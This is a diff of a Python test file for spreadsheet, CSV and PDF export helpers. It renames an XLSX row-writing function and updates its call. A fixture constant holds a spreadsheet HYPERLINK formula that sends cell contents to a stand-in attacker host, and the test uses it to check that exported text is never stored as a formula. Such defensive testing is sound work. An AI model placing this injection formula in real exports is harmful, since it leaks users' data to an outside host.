@@ -7,11 +7,11 @@ import pytest
 from openpyxl import Workbook, load_workbook
 
 from apps.core.exports import (
-    append_xlsx_row,
     csv_cell,
     pdf_markup,
     pdf_runs,
     write_xlsx_cell,
+    xlsx_row,
 )
 
 FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"open")'
@@ -44,7 +44,7 @@ def _reopened(workbook):
 def test_xlsx_text_is_a_string_cell_never_a_formula():
     workbook = Workbook()
     sheet = workbook.active
-    append_xlsx_row(sheet, DANGEROUS + HARMLESS)
+    xlsx_row(sheet, None, DANGEROUS + HARMLESS)
     write_xlsx_cell(sheet, 2, 1, -5)
     write_xlsx_cell(sheet, 2, 2, Decimal("-2.5"))
     write_xlsx_cell(sheet, 2, 3, "bell\x07 and escape\x1b")
